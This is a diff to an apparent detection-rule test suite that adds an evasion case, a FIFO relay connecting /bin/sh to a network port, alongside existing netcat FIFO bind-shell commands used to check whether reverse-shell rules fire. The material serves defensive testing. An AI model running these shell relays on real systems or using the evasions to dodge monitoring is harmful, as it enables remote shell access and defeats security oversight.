@@ -38,6 +38,9 @@ SENSITIVE = "Read sensitive file untrusted"
 STDIO = "Redirect stdio to network connection"
 METADATA_RULE = "Contact cloud metadata service from container"
 SETID = "Set setuid or setgid bit"
+FIFO_RELAY = ("mkfifo /tmp/in /tmp/out; {prog} < /tmp/in > /tmp/out &"
+              f" /usr/bin/cauditd_evade fifo-relay /tmp/in /tmp/out {NOWHERE} 4445"
+              " < /dev/null > /dev/null")
 FIFO_LISTENER = ("mkfifo /tmp/f; /usr/bin/nc -l -p 4445 < /tmp/f | {prog} > /tmp/f &"
                  " /bin/sleep 0.5; echo exit | /usr/bin/nc -w 2 127.0.0.1 4445")
 
@@ -190,6 +193,11 @@ EVASIONS = [
                " > /tmp/f"), "container.image", TEST_IMAGE,
             sh("mkfifo /tmp/f; (echo id > /tmp/f &); /bin/sh < /tmp/f | /bin/cat"),
             exec_asked("/bin/cat")),
+    # a relay whose own stdio is on no pipe: it opens the shell's FIFOs by path
+    Evasion("relay-opening-the-fifos", "Reverse shell through pipes",
+            sh(FIFO_RELAY.format(prog="/bin/sh")), "container.image", TEST_IMAGE,
+            sh(FIFO_RELAY.format(prog="/bin/cat")),
+            execd("/usr/bin/cauditd_evade", "fifo-relay", "/tmp/in", "/tmp/out", NOWHERE, "4445")),
     # a bind shell that dups no socket: the relay accepts instead of connecting (the client is
     # in the same container, over its own loopback)
     Evasion("bind-shell-through-a-fifo", "Reverse shell through pipes",
